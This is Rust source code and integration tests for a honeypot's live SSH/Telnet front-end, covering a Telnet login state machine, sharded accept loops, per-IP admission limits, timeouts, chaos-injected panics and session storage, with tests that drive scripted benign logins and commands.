                    self.auth_tries += 1;
                    if self.auth_tries >= MAX_AUTH_TRIES {
                        self.send_str("\r\nLogin incorrect\r\n");
                        self.phase = Phase::Closed;
                    } else {
                        let host = self.hostname.clone();
                        self.send_str(&format!("\r\nLogin incorrect\r\n{host} login: "));
                        self.phase = Phase::AwaitLogin;
                    }
                }
            }
            Phase::Shell => {
                if line.is_empty() {
                    let host = self.hostname.clone();
                    self.send_str(&format!("{host}:~# "));
                    return;
                }
                if line == "exit" || line == "logout" {
                    self.phase = Phase::Closed;
                    return;
                }
                self.exec_log.push(line.to_string());
                let out = self.handler.exec(line);
                let host = self.hostname.clone();
                self.send_str(&out);
                self.send_str(&format!("{host}:~# "));
            }
            Phase::Closed => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct P;
    impl TelnetHandler for P {
        fn auth(&mut self, u: &str, p: &str) -> bool {
            u == "root" && p == "admin"
        }
        fn exec(&mut self, c: &str) -> String {
            format!("<{c}>\r\n")
        }
    }

    fn srv() -> TelnetServer<P> {
        TelnetServer::new(P, "svr04")
    }

    #[test]
    fn banner_negotiates_and_prompts() {
        let mut s = srv();
        let out = s.take_output();
        assert!(out
            .windows(3)
            .any(|w| w == codec::negotiate(WILL, opt::ECHO)));
        assert!(String::from_utf8_lossy(&out).contains("login: "));
    }

    #[test]
    fn login_flow_and_shell() {
        let mut s = srv();
        s.take_output();
        s.input(b"root\r\n").unwrap();
        assert!(String::from_utf8_lossy(&s.take_output()).contains("Password: "));
        s.input(b"admin\r\n").unwrap();
        let shell = String::from_utf8_lossy(&s.take_output()).into_owned();
        assert!(shell.contains("BusyBox"), "{shell}");
        s.input(b"uname -a\r\n").unwrap();
        assert!(String::from_utf8_lossy(&s.take_output()).contains("<uname -a>"));
        assert_eq!(s.exec_log(), ["uname -a"]);
        s.input(b"exit\r\n").unwrap();
        assert!(s.is_closed());
    }

    #[test]
    fn three_failures_drop_the_connection() {
        let mut s = srv();
        for _ in 0..3 {
            s.input(b"root\r\nwrong\r\n").unwrap();
        }
        assert!(s.is_closed());
        assert_eq!(s.auth_log().len(), 3);
        assert!(s.auth_log().iter().all(|(_, _, ok)| !ok));
    }

    #[test]
    fn refuses_unoffered_options() {
        let mut s = srv();
        s.take_output();
        s.input(&[codec::IAC, DO, 99]).unwrap();
        let out = s.take_output();
        assert!(out.windows(3).any(|w| w == codec::negotiate(WONT, 99)));
    }

    #[test]
    fn iac_inside_credentials_is_handled() {
        let mut s = srv();
        s.take_output();
        // A password containing an escaped 0xFF byte.
        let mut input = b"root\r\n".to_vec();
        input.extend_from_slice(&[b'p', codec::IAC, codec::IAC, b'w', b'\r', b'\n']);
        s.input(&input).unwrap();
        assert_eq!(s.auth_log().len(), 1);
        assert_eq!(s.auth_log()[0].0, "root");
        assert!(s.auth_log()[0].1.contains('w'));
    }
}
