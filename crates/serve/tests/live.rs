//! Live-socket integration tests: real TCP clients against a running
//! [`serve::Server`], with the resulting store read back through
//! `sessiondb`.

use serve::{fold_peer_ip, ChaosConfig, Engine, Gate, ServeConfig, ServeStats, Server};
use sshwire::{ClientScript, SshClient};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::time::{Duration, Instant};
use telwire::{TelnetClient, TelnetScript};

fn temp_store(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("serve-live-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn read_step(stream: &mut TcpStream, buf: &mut [u8]) -> Option<usize> {
    match stream.read(buf) {
        Ok(0) => Some(0),
        Ok(n) => Some(n),
        Err(e)
            if e.kind() == std::io::ErrorKind::WouldBlock
                || e.kind() == std::io::ErrorKind::TimedOut =>
        {
            None
        }
        Err(e) => panic!("client read failed: {e}"),
    }
}

/// Plays one scripted SSH session over a real socket.
fn drive_ssh(addr: SocketAddr, script: ClientScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    stream.set_nodelay(true).ok();
    let mut client = SshClient::new(script, b"live-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(30);
    while !client.is_closed() {
        assert!(Instant::now() < deadline, "client dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        if let Some(n) = read_step(&mut stream, &mut buf) {
            if n == 0 {
                break;
            }
            client.input(&buf[..n]).expect("client protocol");
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
}

/// Plays one scripted Telnet session over a real socket.
fn drive_telnet(addr: SocketAddr, script: TelnetScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    let mut client = TelnetClient::new(script);
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(30);
    while !client.is_done() {
        assert!(Instant::now() < deadline, "telnet dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        if let Some(n) = read_step(&mut stream, &mut buf) {
            if n == 0 {
                break;
            }
            client.input(&buf[..n]).expect("client protocol");
        }
    }
}

#[test]
fn ssh_sessions_round_trip_to_store() {
    let dir = temp_store("ssh-round-trip");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 4,
        stats_interval: None,
        rows_per_segment: 4, // several segments from 10 sessions
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let n = 10;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || {
                let script = ClientScript::new(
                    "root",
                    &["root", "admin"],
                    &[&format!("echo probe-{i}"), "uname -a"],
                );
                drive_ssh(addr, script);
            });
        }
    });

    // Sessions complete asynchronously after the client hangs up.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, n, "all sessions recorded");
    assert_eq!(report.snapshot.shed_capacity, 0);
    assert_eq!(report.snapshot.shed_per_ip, 0);
    assert_eq!(report.ingest.accepted, n);
    assert_eq!(report.quarantined, 0);
    assert!(report.snapshot.bytes_in > 500 * n, "real bytes moved");

    // CRC-checked read-back through the columnar store.
    let store = sessiondb::Store::open(&dir).expect("open store");
    let recs: Vec<_> = store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs");
    assert_eq!(recs.len(), n as usize);
    for rec in &recs {
        assert_eq!(rec.protocol, honeypot::Protocol::Ssh);
        assert!(rec.login_succeeded(), "root/admin is accepted");
        assert_eq!(rec.logins.len(), 2);
        assert_eq!(rec.commands.len(), 2);
        assert!(rec
            .client_version
            .as_deref()
            .unwrap_or("")
            .starts_with("SSH-2.0"));
        assert!(rec.end >= rec.start);
    }
    // Dense ids, one per session.
    let mut ids: Vec<u64> = recs.iter().map(|r| r.session_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, (0..n).collect::<Vec<_>>());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn telnet_sessions_are_served_too() {
    let cfg = ServeConfig {
        ssh_port: None,
        telnet_port: Some(0),
        workers: 2,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().telnet.expect("telnet addr");

    let script = TelnetScript {
        logins: vec![
            ("root".into(), "root".into()), // rejected by policy
            ("root".into(), "hunter2".into()),
        ],
        commands: vec!["cd /tmp".into(), "id".into()],
    };
    drive_telnet(addr, script);

    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1);
    assert_eq!(report.ingest.accepted, 1);
}

#[test]
fn per_ip_limit_sheds_at_accept_time() {
    let cfg = ServeConfig {
        per_ip_limit: 1,
        workers: 1,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // First connection is admitted: the server banner proves a shard owns
    // it.
    let mut first = TcpStream::connect(addr).expect("connect");
    first
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut buf = [0u8; 256];
    let n = first.read(&mut buf).expect("banner");
    assert!(n > 0, "admitted connection gets the SSH banner");

    // Second connection from the same IP is shed before any protocol
    // state: the socket closes without a banner.
    let mut second = TcpStream::connect(addr).expect("connect");
    second
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    match second.read(&mut buf) {
        Ok(0) => {}
        Ok(_) => panic!("shed connection must not receive a banner"),
        Err(e) => panic!("expected clean close, got {e}"),
    }

    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.stats().shed_per_ip < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.stats().shed_per_ip, 1);
    drop(first);
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.shed_per_ip, 1);
    assert_eq!(report.snapshot.shed_capacity, 0);
}

#[test]
fn idle_connections_time_out_and_are_recorded() {
    let cfg = ServeConfig {
        idle_timeout: Duration::from_millis(150),
        workers: 1,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // Connect and go silent — a port scanner, in effect.
    let stream = TcpStream::connect(addr).expect("connect");
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1);
    assert_eq!(
        report.snapshot.timed_out, 1,
        "idle session ends via timeout"
    );
    drop(stream);
}

#[test]
fn graceful_shutdown_drains_in_flight_sessions() {
    let dir = temp_store("drain");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 2,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // Start a client, get mid-handshake, then trigger shutdown while it
    // is still in flight: the session must complete, not be cut off.
    let t = std::thread::spawn(move || {
        let script = ClientScript::new("root", &["admin"], &["uname -a"]);
        drive_ssh(addr, script);
    });
    // Wait until the connection is admitted.
    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.stats().accepted < 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(1));
    }
    handle.trigger_shutdown();
    t.join().expect("client finished");
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, 1, "in-flight session drained");
    assert_eq!(report.ingest.accepted, 1);

    let store = sessiondb::Store::open(&dir).expect("open store");
    let recs: Vec<_> = store
        .scan()
        .records()
        .collect::<Result<_, _>>()
        .expect("intact CRCs");
    assert_eq!(recs.len(), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Connects and reads until the server hangs up, tolerating every
/// error: chaos tests kill connections (or whole shards) mid-dialogue,
/// and the client must not care how its socket died.
fn drive_tolerant(addr: SocketAddr, script: ClientScript) {
    let Ok(mut stream) = TcpStream::connect(addr) else {
        return;
    };
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .ok();
    let mut client = SshClient::new(script, b"chaos-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(10);
    while !client.is_closed() && Instant::now() < deadline {
        let out = client.take_output();
        if !out.is_empty() && stream.write_all(&out).is_err() {
            return;
        }
        match stream.read(&mut buf) {
            Ok(0) => return,
            Ok(n) => {
                if client.input(&buf[..n]).is_err() {
                    return;
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return,
        }
    }
}

#[test]
fn distinct_v6_peers_occupy_distinct_gate_slots() {
    use std::net::{IpAddr, Ipv6Addr};
    let gate = std::sync::Arc::new(Gate::new(16, 1));
    let stats = std::sync::Arc::new(ServeStats::default());
    let a = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)));
    let b = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 2)));
    assert_ne!(a, b, "distinct v6 peers fold to distinct slots");
    let pa = gate.admit(a, &stats).expect("first v6 peer admitted");
    let pb = gate
        .admit(b, &stats)
        .expect("second v6 peer has its own per-IP slot");
    assert!(
        gate.admit(a, &stats).is_err(),
        "same v6 peer again hits its per-IP limit"
    );
    assert_eq!(gate.active(), 2);
    drop(pa);
    drop(pb);
    assert_eq!(gate.active(), 0, "permits release their slots on drop");
}

#[test]
fn injected_connection_panics_are_contained() {
    let cfg = ServeConfig {
        workers: 2,
        stats_interval: None,
        chaos: ChaosConfig {
            conn_panic_rate: 1.0, // every connection's pump panics
            shard_panic_rate: 0.0,
            seed: 7,
        },
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let n = 6u64;
    for i in 0..n {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo doomed-{i}")]);
        drive_tolerant(addr, script);
    }

    // Every pump panicked; every panic was contained inside its shard.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().panics_caught < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.stats().panics_caught, n);
    assert_eq!(
        handle.stats().shards_respawned,
        0,
        "contained panics never kill a shard"
    );

    // The gate leaks nothing: active drains to zero.
    let deadline = Instant::now() + Duration::from_secs(5);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(handle.active(), 0, "permits released despite panics");

    let report = handle.join().expect("shard threads survived");
    assert_eq!(report.snapshot.accepted, n);
    assert_eq!(report.snapshot.panics_caught, n);
    assert_eq!(
        report.ingest.accepted, n,
        "each panicked connection is still recorded as a failed session"
    );
    assert_eq!(report.quarantined, 0);
    assert!(report.shard_panics.is_empty());
}

#[test]
fn injected_shard_panics_respawn_and_keep_serving() {
    let cfg = ServeConfig {
        workers: 2,
        stats_interval: None,
        chaos: ChaosConfig {
            conn_panic_rate: 0.0,
            shard_panic_rate: 0.5, // intake roulette: whole shard dies
            seed: 42,
        },
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    let n = 24u64;
    for i in 0..n {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo roulette-{i}")]);
        drive_tolerant(addr, script);
    }

    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().shards_respawned == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert!(
        handle.stats().shards_respawned >= 1,
        "at 50% intake roulette over {n} connections at least one shard died"
    );
    assert_eq!(
        handle.stats().accepted,
        n,
        "the server kept accepting through every shard death"
    );

    // Respawned shards still serve: two more clients land on both shards
    // (round-robin) and are accepted.
    for i in 0..2 {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo after-{i}")]);
        drive_tolerant(addr, script);
    }
    assert_eq!(handle.stats().accepted, n + 2);

    // Every gate slot comes home, even those queued to a shard that died.
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(
        handle.active(),
        0,
        "no gate slot leaked across shard deaths"
    );

    let report = handle.join().expect("supervised server joins cleanly");
    let respawns = report.snapshot.shards_respawned;
    assert!(respawns >= 1);
    assert!(
        report.shard_panics.len() as u64 >= respawns,
        "every shard death is reported"
    );
    for p in &report.shard_panics {
        assert!(
            p.contains("chaos: injected shard panic"),
            "panic message surfaces verbatim: {p}"
        );
    }
}

/// A connection that goes silent mid-handshake must not stall anyone
/// else on its shard. With one worker shard, the reactor parks the
/// stalled socket on epoll and keeps pumping its siblings; the old
/// polling loop also passed this (it skipped unreadable sockets), but
/// the reactor variant would deadlock outright if readiness handling
/// regressed to blocking per-connection I/O.
#[test]
fn stalled_connection_cannot_block_siblings() {
    let cfg = ServeConfig {
        workers: 1,
        stats_interval: None,
        idle_timeout: Duration::from_secs(30),
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");

    // The staller: sends a *partial* version banner (no newline), then
    // nothing. The server must hold it open, waiting for the rest.
    let mut staller = TcpStream::connect(addr).expect("staller connect");
    staller.write_all(b"SSH-2.0-half").expect("partial banner");
    std::thread::sleep(Duration::from_millis(50));

    // Five normal sessions ride the same single shard and must all
    // complete while the staller sits there.
    let n = 5u64;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || {
                let script = ClientScript::new("root", &["admin"], &[&format!("echo sibling-{i}")]);
                drive_ssh(addr, script);
            });
        }
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(
        handle.stats().completed,
        n,
        "siblings completed while a connection stalled on the only shard"
    );
    // The staller is still admitted (not timed out, not dropped).
    assert_eq!(handle.active(), 1, "staller still holds its slot");
    drop(staller);
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.active() > 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(handle.active(), 0, "staller's slot came home after close");
    handle.join().expect("join");
}

/// The legacy polling engine stays a first-class citizen (it is the
/// bench baseline and the fallback on platforms without epoll/poll):
/// full round-trip through `--engine polled`.
#[test]
fn polled_engine_still_serves_sessions() {
    let cfg = ServeConfig {
        workers: 2,
        engine: Engine::Polled,
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let addr = handle.addrs().ssh.expect("ssh addr");
    let n = 6u64;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || {
                let script = ClientScript::new("root", &["admin"], &[&format!("echo polled-{i}")]);
                drive_ssh(addr, script);
            });
        }
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    while handle.stats().completed < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, n);
    assert_eq!(
        report.snapshot.shed_capacity + report.snapshot.shed_per_ip,
        0
    );
}
