//! `serve` — the honeypot's live TCP front-end.
//!
//! Everything else in this workspace drives the sans-IO `sshwire` /
//! `telwire` state machines from a synthetic generator; this crate binds
//! real sockets and drives the *same* state machines from real bytes, so a
//! running `honeylab serve` is an actual medium-interaction honeypot whose
//! output is immediately analyzable.
//!
//! # Architecture
//!
//! ```text
//!   accept thread (ssh)  ──┐                 ┌── shard 0 ── poll loop over its conns
//!   accept thread (telnet)─┼─ admission ─────┼── shard 1 ── …
//!                          │  (global cap,   └── shard N-1
//!                          │   per-IP limit)        │ completed sessions
//!                          │                        ▼
//!   stats thread           │                  honeypot::Collector ── sessiondb store
//! ```
//!
//! * **Sharded accept loop** — one non-blocking accept thread per
//!   listener; admitted connections are dealt round-robin to a fixed pool
//!   of worker *shards*. Each shard owns its connections outright (no
//!   cross-thread locking on the hot path) and polls them with
//!   non-blocking reads/writes, so one slow client never stalls the rest.
//! * **Admission control** — a connection is shed *at accept time* when
//!   the global concurrent-connection cap or the per-IP limit is reached:
//!   the socket is dropped before any protocol state is allocated, which
//!   is the only backpressure that actually protects the process from an
//!   accept storm.
//! * **Timeouts** — every connection carries an idle deadline (no bytes in
//!   either direction) and a total-session deadline; expiry closes the
//!   connection and records the session with
//!   [`honeypot::SessionEndReason::Timeout`], exactly like Cowrie's
//!   3-minute timer.
//! * **Durable spill** — completed sessions convert to
//!   [`honeypot::SessionRecord`]s and stream through the hardened
//!   [`honeypot::Collector`] (retry/backoff/quarantine) into a live
//!   [`sessiondb`] store, so a server that has been up for a year has a
//!   store on disk that `honeylab analyze` reads directly.
//! * **Graceful shutdown** — trigger → accept loops stop and listeners
//!   close → shards drain in-flight sessions (bounded by a drain timeout)
//!   → collector retries flush → the final partial segment is sealed.

pub mod barrage;
pub mod broadcast;
pub mod conn;
pub mod http;
pub mod reactor;
pub mod server;
pub mod signal;
pub mod sse;
pub mod stats;

pub use conn::{LiveHandler, SharedStore};
pub use server::{fold_peer_ip, ServeReport, Server, ServerHandle};

use honeypot::CollectorConfig;
use sessiondb::FsyncPolicy;
use std::net::{IpAddr, Ipv4Addr as StdIpv4Addr};
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// Everything that can go wrong starting or stopping a server.
#[derive(Debug)]
pub enum ServeError {
    /// Neither an SSH nor a Telnet port was configured.
    NoListeners,
    /// Binding a listener failed.
    Bind {
        /// Address we tried to bind.
        addr: String,
        /// The OS error.
        source: std::io::Error,
    },
    /// Creating or sealing the sessiondb spill store failed.
    Store {
        /// Backend error message.
        message: String,
    },
    /// Draining the collector failed.
    Collector {
        /// Collector error message.
        message: String,
    },
    /// A server thread (accept loop, supervisor, stats) panicked; the
    /// run's data was still sealed, but the process was unhealthy.
    ThreadPanicked {
        /// Thread that died.
        thread: String,
        /// Extracted panic message.
        message: String,
    },
}

impl std::fmt::Display for ServeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ServeError::NoListeners => write!(f, "no ports configured: nothing to serve"),
            ServeError::Bind { addr, source } => write!(f, "cannot bind {addr}: {source}"),
            ServeError::Store { message } => write!(f, "session store failed: {message}"),
            ServeError::Collector { message } => write!(f, "collector failed: {message}"),
            ServeError::ThreadPanicked { thread, message } => {
                write!(f, "server thread '{thread}' panicked: {message}")
            }
        }
    }
}

/// Fault-injection knobs for the serving layer itself. Sink flush
/// failures are injected separately through
/// [`ServeConfig::collector`]'s `flush_failure_rate`; these rates cover
/// the two failure domains above the collector: a single connection's
/// pump panicking (caught per-connection) and a whole shard thread
/// panicking (respawned by the supervisor). Rates are probabilities in
/// `[0, 1]`; the seed makes a chaos run reproducible.
#[derive(Debug, Clone, Copy, Default)]
pub struct ChaosConfig {
    /// Probability that an admitted connection's pump panics.
    pub conn_panic_rate: f64,
    /// Probability that taking a connection into a shard panics the
    /// shard thread itself.
    pub shard_panic_rate: f64,
    /// Seed for the deterministic injectors.
    pub seed: u64,
}

impl ChaosConfig {
    /// Whether any chaos injection is active.
    pub fn enabled(&self) -> bool {
        self.conn_panic_rate > 0.0 || self.shard_panic_rate > 0.0
    }
}

impl std::error::Error for ServeError {}

/// Which serving engine drives the worker shards.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Engine {
    /// Readiness-driven reactor shards: epoll (Linux) or poll(2)
    /// (other unixes), eventfd-style wakeups, timer-wheel deadlines.
    /// The default wherever a readiness API exists.
    #[default]
    Reactor,
    /// The legacy nap-based polling shards, kept as the measurable
    /// baseline (`honeylab serve --engine polled`) and as the fallback
    /// on platforms without a readiness API. Its naps are adaptive
    /// (spin → yield → park) rather than fixed.
    Polled,
}

impl Engine {
    /// Parses a CLI value.
    pub fn parse(s: &str) -> Option<Engine> {
        match s {
            "reactor" => Some(Engine::Reactor),
            "polled" => Some(Engine::Polled),
            _ => None,
        }
    }

    /// The CLI spelling.
    pub fn as_str(&self) -> &'static str {
        match self {
            Engine::Reactor => "reactor",
            Engine::Polled => "polled",
        }
    }
}

/// Tuning knobs for a live server. The defaults are sized for the
/// loopback smoke tests; a production deployment raises the cap and the
/// worker count.
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Address to bind listeners on.
    pub bind: IpAddr,
    /// SSH listener port (`Some(0)` picks an ephemeral port), `None`
    /// disables the SSH listener.
    pub ssh_port: Option<u16>,
    /// Telnet listener port, same conventions.
    pub telnet_port: Option<u16>,
    /// Spill store directory; `None` keeps completed sessions in memory
    /// (they are returned by [`ServerHandle::join`] only as counters).
    pub store_dir: Option<PathBuf>,
    /// Number of worker shards.
    pub workers: usize,
    /// Global concurrent-connection cap; connections beyond it are shed
    /// at accept time.
    pub max_connections: usize,
    /// Concurrent-connection limit per client IP.
    pub per_ip_limit: usize,
    /// Close a connection after this long with no bytes in either
    /// direction (Cowrie's idle timer).
    pub idle_timeout: Duration,
    /// Hard ceiling on total session duration.
    pub session_timeout: Duration,
    /// How long shards keep pumping in-flight sessions after shutdown is
    /// triggered before force-closing them.
    pub drain_timeout: Duration,
    /// Interval between stats log lines; `None` disables the stats thread.
    pub stats_interval: Option<Duration>,
    /// Sensor id stamped into every record.
    pub honeypot_id: u16,
    /// Sensor address stamped into every record.
    pub honeypot_ip: netsim::Ipv4Addr,
    /// Fault-injection / retry config for the collector.
    pub collector: CollectorConfig,
    /// Rows per sealed store segment.
    pub rows_per_segment: usize,
    /// WAL durability policy for the spill store: how often the log
    /// fsyncs. Only meaningful with a `store_dir`.
    pub fsync: FsyncPolicy,
    /// Serving-layer fault injection (off by default).
    pub chaos: ChaosConfig,
    /// Observability HTTP listener port (`Some(0)` picks an ephemeral
    /// port); `None` disables the HTTP plane.
    pub http_port: Option<u16>,
    /// Worker threads for the HTTP plane.
    pub http_workers: usize,
    /// How many completed sessions `/api/sessions/recent` retains.
    pub recent_tail: usize,
    /// Which serving engine drives the shards (reactor by default;
    /// polled is the measurable baseline / non-unix fallback).
    pub engine: Engine,
}

impl Default for ServeConfig {
    fn default() -> Self {
        Self {
            bind: IpAddr::V4(StdIpv4Addr::LOCALHOST),
            ssh_port: Some(0),
            telnet_port: None,
            store_dir: None,
            workers: std::thread::available_parallelism()
                .map(|n| n.get())
                .unwrap_or(4),
            max_connections: 1024,
            per_ip_limit: 1024,
            idle_timeout: Duration::from_secs(180),
            session_timeout: Duration::from_secs(600),
            drain_timeout: Duration::from_secs(10),
            stats_interval: Some(Duration::from_secs(10)),
            honeypot_id: 0,
            honeypot_ip: netsim::Ipv4Addr::from_octets(100, 64, 0, 1),
            collector: CollectorConfig::default(),
            rows_per_segment: sessiondb::DEFAULT_ROWS_PER_SEGMENT,
            fsync: FsyncPolicy::default(),
            chaos: ChaosConfig::default(),
            http_port: None,
            http_workers: 2,
            recent_tail: 64,
            engine: Engine::default(),
        }
    }
}

impl ServeConfig {
    /// A validating builder over the same fields. The plain-struct path
    /// (struct literal over [`ServeConfig::default`]) keeps compiling;
    /// the builder is for call sites that want the invariants checked
    /// before a socket is ever bound.
    pub fn builder() -> ServeConfigBuilder {
        ServeConfigBuilder {
            cfg: ServeConfig::default(),
        }
    }

    /// The invariant checks behind [`ServeConfigBuilder::build`],
    /// callable on a hand-assembled config too.
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.ssh_port.is_none() && self.telnet_port.is_none() {
            return Err(ConfigError::NoListeners);
        }
        if self.workers == 0 {
            return Err(ConfigError::ZeroWorkers { plane: "serve" });
        }
        if self.http_port.is_some() && self.http_workers == 0 {
            return Err(ConfigError::ZeroWorkers { plane: "http" });
        }
        if self.drain_timeout > self.session_timeout {
            return Err(ConfigError::DrainExceedsSessionTimeout {
                drain: self.drain_timeout,
                session: self.session_timeout,
            });
        }
        // Ephemeral (0) ports never collide; fixed ports must differ.
        let mut fixed: Vec<u16> = [self.ssh_port, self.telnet_port, self.http_port]
            .into_iter()
            .flatten()
            .filter(|&p| p != 0)
            .collect();
        fixed.sort_unstable();
        if let Some(w) = fixed.windows(2).find(|w| w[0] == w[1]) {
            return Err(ConfigError::DuplicatePort { port: w[0] });
        }
        Ok(())
    }
}

/// A config rejected by [`ServeConfig::validate`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConfigError {
    /// Neither an SSH nor a Telnet port was configured.
    NoListeners,
    /// A worker pool was sized to zero threads.
    ZeroWorkers {
        /// Which pool (`"serve"` or `"http"`).
        plane: &'static str,
    },
    /// The drain window cannot exceed the session ceiling — a drain
    /// longer than the longest possible session only delays shutdown.
    DrainExceedsSessionTimeout {
        /// Configured drain timeout.
        drain: Duration,
        /// Configured session timeout.
        session: Duration,
    },
    /// Two listeners were given the same fixed port.
    DuplicatePort {
        /// The colliding port.
        port: u16,
    },
}

impl std::fmt::Display for ConfigError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ConfigError::NoListeners => write!(f, "no ports configured: nothing to serve"),
            ConfigError::ZeroWorkers { plane } => {
                write!(f, "{plane} worker pool cannot be sized to zero threads")
            }
            ConfigError::DrainExceedsSessionTimeout { drain, session } => write!(
                f,
                "drain timeout ({drain:?}) exceeds session timeout ({session:?})"
            ),
            ConfigError::DuplicatePort { port } => {
                write!(f, "port {port} is assigned to more than one listener")
            }
        }
    }
}

impl std::error::Error for ConfigError {}

/// Builder returned by [`ServeConfig::builder`]; every setter mirrors a
/// [`ServeConfig`] field, and [`ServeConfigBuilder::build`] runs the
/// invariant checks.
#[derive(Debug, Clone)]
pub struct ServeConfigBuilder {
    cfg: ServeConfig,
}

impl ServeConfigBuilder {
    /// Address to bind listeners on.
    pub fn bind(mut self, bind: IpAddr) -> Self {
        self.cfg.bind = bind;
        self
    }

    /// SSH listener port (`None` disables, `0` is ephemeral).
    pub fn ssh_port(mut self, port: impl Into<Option<u16>>) -> Self {
        self.cfg.ssh_port = port.into();
        self
    }

    /// Telnet listener port.
    pub fn telnet_port(mut self, port: impl Into<Option<u16>>) -> Self {
        self.cfg.telnet_port = port.into();
        self
    }

    /// Observability HTTP port.
